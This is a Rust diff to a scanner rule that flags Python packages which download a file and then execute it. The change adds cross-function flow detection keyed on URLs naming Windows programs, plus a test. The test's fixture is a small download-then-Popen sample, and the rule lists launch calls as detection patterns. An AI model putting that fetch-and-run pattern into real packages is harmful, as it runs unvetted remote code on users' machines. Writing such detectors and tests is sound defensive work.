@@ -44,30 +44,48 @@ impl Rule for DownloadExecute {
             }
             // Download and execution must happen in the same function (or both
             // at module level): unrelated helpers in one module prove nothing.
-            let pair = code
-                .calls
-                .iter()
-                .filter(|c| vocab::is_download(&c.name))
-                .find_map(|download| {
-                    let same = |c: &&Call| c.scope == download.scope;
-                    let direct = code
-                        .calls
-                        .iter()
-                        .filter(same)
-                        .find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
-                    let launch = code.calls.iter().filter(same).find(|c| {
-                        vocab::is_shell(&c.name)
-                            || matches!(
-                                c.name.as_str(),
-                                "os.startfile" | "os.chmod" | "ctypes.windll.shell32.ShellExecuteW"
-                            )
-                    });
-                    match (direct, launch) {
-                        (Some(d), _) => Some((download, d, "executes the downloaded code", true)),
-                        (None, Some(l)) => Some((download, l, "then launches it", false)),
-                        (None, None) => None,
-                    }
-                });
+            // Across functions of one flow (`main()` calling `fetch()` then
+            // `run()`) they count only when the download names a program.
+            let find = |flow: bool| {
+                code.calls
+                    .iter()
+                    .filter(|c| vocab::is_download(&c.name))
+                    .find_map(|download| {
+                        let flow_scopes = if flow {
+                            code.flow_scopes(download.scope)
+                        } else {
+                            Vec::new()
+                        };
+                        let same = |c: &&Call| {
+                            if flow {
+                                c.scope != download.scope && flow_scopes.get(c.scope as usize).copied().unwrap_or(false)
+                            } else {
+                                c.scope == download.scope
+                            }
+                        };
+                        let direct = code
+                            .calls
+                            .iter()
+                            .filter(same)
+                            .find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
+                        let launch = code.calls.iter().filter(same).find(|c| {
+                            vocab::is_shell(&c.name)
+                                || matches!(
+                                    c.name.as_str(),
+                                    "os.startfile" | "os.chmod" | "ctypes.windll.shell32.ShellExecuteW"
+                                )
+                        });
+                        match (direct, launch) {
+                            (Some(d), _) => Some((download, d, "executes the downloaded code", true)),
+                            (None, Some(l)) => Some((download, l, "then launches it", false)),
+                            (None, None) => None,
+                        }
+                    })
+            };
+            let (pair, across) = match find(false) {
+                Some(p) => (Some(p), false),
+                None => (find(true), true),
+            };
             let Some((download, run, how, direct)) = pair else {
                 continue;
             };
@@ -77,6 +95,15 @@ impl Rule for DownloadExecute {
                 .filter(|l| l.scope == download.scope)
                 .map(|l| l.value.as_str())
                 .collect();
+            // A URL naming a Windows program, anywhere in the flow that downloads and runs.
+            let flow_scopes = code.flow_scopes(download.scope);
+            let program_url = code
+                .strings
+                .iter()
+                .filter(|l| flow_scopes.get(l.scope as usize).copied().unwrap_or(false))
+                .map(|l| l.value.as_str())
+                .chain(download.arg_strs.iter().map(String::as_str))
+                .any(|s| s.contains("://") && !s.contains(' ') && names_program(s));
             let shady_source = download
                 .arg_strs
                 .iter()
@@ -85,10 +112,10 @@ impl Rule for DownloadExecute {
                 .filter_map(vocab::endpoint_kind)
                 .find(|e| !matches!(e, vocab::Endpoint::IpLookup));
             // A Windows program or script written to disk and started.
-            let dropped_program = scoped.iter().any(|s| {
-                let l = s.to_ascii_lowercase();
-                [".exe", ".bat", ".vbs", ".ps1", ".scr"].iter().any(|e| l.ends_with(e)) && !l.contains(' ')
-            });
+            let dropped_program = program_url || scoped.iter().any(|s| names_program(s) && !s.contains(' '));
+            if across && !program_url {
+                continue;
+            }
             let stage = download.stage.max(run.stage);
             let severity = match stage {
                 Stage::Install | Stage::Import => Severity::Critical,
@@ -108,6 +135,15 @@ impl Rule for DownloadExecute {
             out.push(unit.finding(Self::META.id, severity, run.line, message));
         }
     }
+}
+
+/// `x.exe`, `…/setup.bat?dl=1`: the name of a Windows program or script.
+fn names_program(s: &str) -> bool {
+    let l = s.to_ascii_lowercase();
+    let path = l.split(['?', '#']).next().unwrap_or(&l);
+    [".exe", ".bat", ".vbs", ".ps1", ".scr"]
+        .iter()
+        .any(|e| path.ends_with(e))
 }
 
 /// A launch that hides its window or detaches from the console.
@@ -172,6 +208,17 @@ mod tests {
             )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+    }
+
+    #[test]
+    fn fires_across_functions_of_one_flow() {
+        let src = "import requests, subprocess\ndef fetch(u, p):\n    open(p, 'wb').write(requests.get(u).content)\n\
+                   def run(p):\n    subprocess.Popen(p)\ndef main():\n    fetch('https://raw.githubusercontent.com/x/y/main/a.exe', 'a.exe')\n    run('a.exe')\n";
+        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/tool.py", src)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+        // The same shape fetching an archive is not reported across functions.
+        let src = src.replace("a.exe'", "node.tar.gz'");
+        assert!(check(&DownloadExecute, Kind::Wheel, &[("pkg/tool.py", &src)]).is_empty());
     }
 
     #[test]
